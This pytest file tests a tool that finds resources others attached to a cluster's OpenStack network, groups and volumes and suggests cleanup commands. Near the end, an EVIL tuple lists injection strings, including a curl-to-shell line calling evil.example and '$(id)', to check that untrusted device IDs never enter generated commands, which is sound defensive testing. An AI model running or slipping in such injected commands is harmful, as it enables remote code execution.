"""What others have on a bay's network, groups and volumes, and what is the bay's own or the cloud's."""

from typing import Any

import pytest
from openstack import exceptions

from bay.stacks.cloud.additions import find_additions
from bay.stacks.cloud.kind_additions import Addition, OwnedResources
from bay.stacks.cloud.kind_lists import Listing
from tests.fakes.openstack import FakeCloud


@pytest.fixture
def cloud() -> FakeCloud:
    """With the bay's network, subnet, router, server, group, load balancer and volume."""
    cloud = FakeCloud()
    cloud.add("network", "n1", name="physics")
    cloud.add("subnet", "s1", network_id="n1")
    cloud.add("router", "r1", name="physics")
    cloud.add("server", "vm1", name="physics-node-0")
    cloud.add("security_group", "g1", name="physics-node")
    cloud.add("load_balancer", "lb1", vip_port_id="p-vip")
    cloud.add("volume", "v1", name="pvc-1", attachments=[{"server_id": "vm1"}])
    return cloud


KINDS = ("network", "subnet", "router", "server", "security group", "load balancer", "volume")


def own(cloud: FakeCloud, *, strangers: bool = False) -> OwnedResources:
    """Of each kind the first that the cloud has; the state knows a port beside them."""
    things = {kind: cloud.things[kind.replace(" ", "_")][0] for kind in KINDS}
    return OwnedResources(
        {kind: {thing.id: thing} for kind, thing in things.items()}, frozenset({"p-state"}), strangers
    )


def blockers(cloud: FakeCloud, *, strangers: bool = False) -> list[Addition]:
    listing = Listing(cloud, "physics", "1", is_whole=True)  # type: ignore[arg-type]
    return [one for one in find_additions(listing, own(cloud, strangers=strangers)) if one.blocks]


def add_port(cloud: FakeCloud, id: str, **fields: Any) -> None:
    """A port on the bay's network."""
    cloud.add("port", id, **{"network_id": "n1", "device_id": "", "device_owner": "", "fixed_ips": [], **fields})


@pytest.mark.parametrize(
    ("id", "fields"),
    [
        ("p-state", {}),
        ("p-vip", {"device_owner": "Octavia", "device_id": "lb-lb1"}),
        ("p1", {"device_owner": "compute:nova", "device_id": "vm1"}),
        ("p1", {"device_owner": "network:router_interface", "device_id": "r1"}),
        ("p1", {"device_owner": "Octavia", "device_id": "lb-lb1", "name": "octavia-lb-additional"}),
        ("p1", {"device_owner": "network:dhcp", "device_id": "dhcp-1"}),
        ("p1", {"device_owner": "network:distributed", "device_id": "ovnmeta-n1"}),
        ("p1", {"device_owner": "ovn-lb-hm:distributed", "device_id": "ovn-lb-hm-s1"}),
        ("p1", {"device_owner": "compute:nova", "device_id": "amphora-1", "name": "octavia-lb-vrrp-1"}),
        ("p1", {"device_owner": "compute:nova", "device_id": "amphora-1", "project_id": "service"}),
    ],
)
def test_what_is_the_bays_or_goes_with_it_blocks_nothing(cloud: FakeCloud, id: str, fields: dict[str, Any]) -> None:
    add_port(cloud, id, **fields)
    assert blockers(cloud) == []


BLOCKERS: list[tuple[dict[str, Any], str, str, str]] = [
    ({"name": "printer"}, "port", "p1", "openstack port delete p1"),
    (
        {"device_owner": "compute:nova", "device_id": "vm9"},
        "server",
        "vm9",
        "openstack server remove network vm9 n1",
    ),
    (
        {"device_owner": "Octavia", "device_id": "lb-lb9"},
        "load balancer",
        "lb9",
        "openstack loadbalancer delete --cascade lb9",
    ),
    (
        {"device_owner": "network:router_interface_distributed", "device_id": "r9"},
        "router",
        "r9",
        "openstack router remove port r9 p1",
    ),
    (
        {"device_owner": "network:router_interface", "device_id": "r1", "network_id": "n9"},
        "router interface",
        "p1",
        "openstack router remove port r1 p1",
    ),
]


@pytest.mark.parametrize(("fields", "kind", "id", "remedy"), BLOCKERS)
def test_a_foreign_port_is_named_by_what_a_person_knows(
    cloud: FakeCloud, fields: dict[str, Any], kind: str, id: str, remedy: str
) -> None:
    add_port(cloud, "p1", **fields)
    [found] = blockers(cloud)
    assert (found.kind, found.id, found.remedy) == (kind, id, remedy)


def test_a_foreign_port_is_named_by_its_owners_name_where_that_can_be_seen(cloud: FakeCloud) -> None:
    cloud.add("server", "vm9", name="desktop")
    add_port(cloud, "p1", device_owner="compute:nova", device_id="vm9", fixed_ips=[{"ip_address": "10.0.0.9"}])
    [found] = blockers(cloud)
    assert (found.name, found.why) == ("desktop", "on network physics (10.0.0.9)")


def test_a_foreign_subnet_of_the_bays_network_is_named(cloud: FakeCloud) -> None:
    cloud.add("subnet", "s9", name="more", network_id="n1")
    [found] = blockers(cloud)
    assert found == Addition("subnet", "s9", "more", "on network physics", "openstack subnet delete s9")


def test_ports_of_other_projects_are_only_looked_at_when_asked_for(cloud: FakeCloud) -> None:
    add_port(cloud, "p1", project_id="theirs")
    assert blockers(cloud) == []
    assert [one.id for one in blockers(cloud, strangers=True)] == ["p1"]


def test_users_of_groups_and_volumes_block(cloud: FakeCloud) -> None:
    cloud.add("security_group", "g9", name="theirs")
    cloud.add("security_group_rule", "r-own", remote_group_id="g1", security_group_id="g1")
    cloud.add("security_group_rule", "r-foreign", remote_group_id="g1", security_group_id="g9")
    cloud.add("snapshot", "sn1", volume_id="v1")
    cloud.add("snapshot", "sn2", volume_id="v9")
    add_port(cloud, "p9", network_id="n9", security_group_ids=["g1", "g9"])
    assert [one.id for one in blockers(cloud)] == ["sn1", "r-foreign", "p9"]
    assert blockers(cloud)[1].why == "in security group theirs lets security group physics-node in"


def test_a_server_that_has_a_volume_of_the_bay_blocks(cloud: FakeCloud) -> None:
    (volume,) = cloud.things["volume"]
    volume.attachments = [{"server_id": "vm9"}]
    assert [(one.kind, one.id) for one in blockers(cloud)] == [("server", "vm9")]


def additions(cloud: FakeCloud) -> list[Addition]:
    """What does not block the bay's end."""
    listing = Listing(cloud, "physics", "1", is_whole=True)  # type: ignore[arg-type]
    return [one for one in find_additions(listing, own(cloud)) if not one.blocks]


RULE = {"id": "r9", "direction": "ingress", "protocol": "tcp", "port_range_min": 22, "port_range_max": 22}


@pytest.mark.parametrize(
    ("fields", "why", "exposes"),
    [
        ({"remote_ip_prefix": "0.0.0.0/0"}, "ingress tcp 22 from 0.0.0.0/0", True),
        ({"remote_ip_prefix": "::/0", "port_range_max": 25}, "ingress tcp 22-25 from ::/0", True),
        ({"remote_ip_prefix": "128.0.0.0/1"}, "ingress tcp 22 from 128.0.0.0/1", True),
        ({"protocol": None, "port_range_min": None}, "ingress everything from anywhere (IPv4)", True),
        ({"remote_ip_prefix": "192.0.2.0/24"}, "ingress tcp 22 from 192.0.2.0/24", False),
        ({"remote_group_id": "g9"}, "ingress tcp 22 from security group g9", False),
        ({"remote_address_group_id": "a9"}, "ingress tcp 22 from address group a9", False),
        ({"direction": "egress", "remote_ip_prefix": "0.0.0.0/0"}, "egress tcp 22 to 0.0.0.0/0", False),
    ],
)
def test_a_rule_that_was_put_into_the_bays_group_is_named(
    cloud: FakeCloud, fields: dict[str, Any], why: str, exposes: bool
) -> None:
    (group,) = cloud.things["security_group"]
    group.security_group_rules = [{**RULE, "ethertype": "IPv4", **fields}]
    [found] = additions(cloud)
    assert (found.kind, found.id, found.exposes) == ("rule", "r9", exposes)
    assert found.why == f"in security group physics-node: {why}"
    assert found.remedy == "openstack security group rule delete r9"


def test_rules_of_the_state_and_of_another_group_are_no_addition(cloud: FakeCloud) -> None:
    (group,) = cloud.things["security_group"]
    group.security_group_rules = [{**RULE, "id": "p-state"}]
    cloud.add("security_group", "g9", security_group_rules=[RULE])
    assert additions(cloud) == []


def add_own_port(cloud: FakeCloud, id: str, **fields: Any) -> None:
    add_port(cloud, id, **{"device_owner": "compute:nova", "device_id": "vm1", **fields})


def test_a_second_interface_of_a_server_is_named(cloud: FakeCloud) -> None:
    add_own_port(cloud, "p2", created_at="2026-01-02T00:00:00Z", fixed_ips=[{"ip_address": "10.0.0.7"}])
    add_own_port(cloud, "p1", created_at="2026-01-01T00:00:00Z")
    [found] = additions(cloud)
    assert (found.kind, found.id, found.why) == ("port", "p2", "on server physics-node-0 (10.0.0.7)")
    assert found.remedy == "openstack server remove port vm1 p2"


def test_beside_a_port_of_the_state_every_other_one_was_added(cloud: FakeCloud) -> None:
    add_own_port(cloud, "p1", created_at="2026-01-01T00:00:00Z")
    add_own_port(cloud, "p-state", created_at="2026-01-02T00:00:00Z")
    assert [one.id for one in additions(cloud)] == ["p1"]


@pytest.mark.parametrize(("prefix", "exposes"), [("0.0.0.0/0", True), ("::/0", True), ("10.9.0.0/16", False)])
def test_an_address_pair_on_a_port_that_nova_made_is_named(cloud: FakeCloud, prefix: str, exposes: bool) -> None:
    pair = {"ip_address": prefix, "mac_address": "fa:16:3e:00:00:01"}
    add_own_port(cloud, "p1", allowed_address_pairs=[pair])
    [found] = additions(cloud)
    assert (found.kind, found.name, found.exposes) == ("address pair", prefix, exposes)
    assert (
        found.remedy == f"openstack port unset --allowed-address mac-address=fa:16:3e:00:00:01,ip-address={prefix} p1"
    )
    assert found.remove is not None
    found.remove(cloud)  # type: ignore[arg-type]
    assert additions(cloud) == []


def test_port_security_that_was_turned_off_is_named(cloud: FakeCloud) -> None:
    add_own_port(cloud, "p1", is_port_security_enabled=False)
    assert additions(cloud) == [], "Neutron may have no such extension"
    cloud.add("extension", "port-security", name="Port Security")
    [found] = additions(cloud)
    assert (found.kind, found.exposes) == ("port", True)


@pytest.mark.parametrize(
    ("port", "why"),
    [
        ({"id": "p1", "device_id": "vm1"}, "on the bay's server physics-node-0, without its mark"),
        ({"id": "p-vip", "device_id": "lb-lb1"}, "on the bay's load balancer physics-api, without its mark"),
    ],
)
def test_a_floating_ip_on_what_is_the_bays_is_named(cloud: FakeCloud, port: dict[str, str], why: str) -> None:
    cloud.things["load_balancer"][0].name = "physics-api"
    add_port(cloud, **port)
    cloud.add("ip", "f1", port_id=port["id"], floating_ip_address="192.0.2.7")
    cloud.add("ip", "f9", port_id="p-foreign", floating_ip_address="192.0.2.8")
    [found] = additions(cloud)
    assert (found.kind, found.name, found.why) == ("floating IP", "192.0.2.7", why)
    assert found.remedy == "openstack floating ip unset --port f1"


def test_a_volume_on_the_bays_server_is_named(cloud: FakeCloud) -> None:
    cloud.add("volume", "v9", name="photos", attachments=[{"server_id": "vm1"}])
    [found] = additions(cloud)
    assert (found.kind, found.id, found.remedy) == ("volume", "v9", "openstack server remove volume vm1 v9")


def test_a_route_on_the_bays_router_is_named_and_can_be_removed(cloud: FakeCloud) -> None:
    (router,) = cloud.things["router"]
    router.routes = [{"destination": "10.9.0.0/16", "nexthop": "10.0.0.9"}]
    [found] = additions(cloud)
    assert (found.kind, found.name, found.why) == ("route", "10.9.0.0/16", "on router physics, by way of 10.0.0.9")
    assert found.remove is not None
    found.remove(cloud)  # type: ignore[arg-type]
    assert additions(cloud) == []


@pytest.mark.parametrize(("target", "whom"), [("*", "every project"), ("p9", "project p9")])
def test_who_a_network_or_group_is_shared_with_is_named(cloud: FakeCloud, target: str, whom: str) -> None:
    shared = {"action": "access_as_shared", "target_project_id": target}
    cloud.add("rbac_policy", "b1", object_id="n1", object_type="network", **shared)
    cloud.add("rbac_policy", "b2", object_id="g1", object_type="security_group", **shared)
    cloud.add("rbac_policy", "b9", object_id="n9", object_type="network", **shared)
    assert [(one.id, one.why, one.exposes) for one in additions(cloud)] == [
        ("b1", f"shares network physics with {whom}", target == "*"),
        ("b2", f"shares security group physics-node with {whom}", target == "*"),
    ]


def test_a_neutron_without_sharing_is_no_error(cloud: FakeCloud) -> None:
    cloud.fail("rbac_policies", [exceptions.NotFoundException()] * 9)
    assert additions(cloud) == []


EVIL = ("x; curl http://evil.example/s|sh #", "$(id)", "--os-cloud=other", "a b", "esc\x1b[2J", "a\nb", "'")


@pytest.mark.parametrize("device", EVIL)
@pytest.mark.parametrize("owner", ["compute:nova", "network:router_interface", "Octavia", ""])
def test_what_others_call_their_devices_is_in_no_command(cloud: FakeCloud, owner: str, device: str) -> None:
    for id, text in (("p1", device), ("p2", f"lb-{device}")):
        add_port(cloud, id, device_owner=owner, device_id=text)
    assert {one.remedy for one in blockers(cloud)} == {"openstack port delete p1", "openstack port delete p2"}


@pytest.mark.parametrize("device", EVIL)
def test_nor_where_a_group_of_the_bay_protects_it(cloud: FakeCloud, device: str) -> None:
    fields = {"network_id": "n9", "device_owner": "compute:nova", "device_id": device, "security_group_ids": ["g1"]}
    add_port(cloud, "p1", **fields)
    assert [one.remedy for one in blockers(cloud)] == ["openstack port unset --security-group g1 p1"]
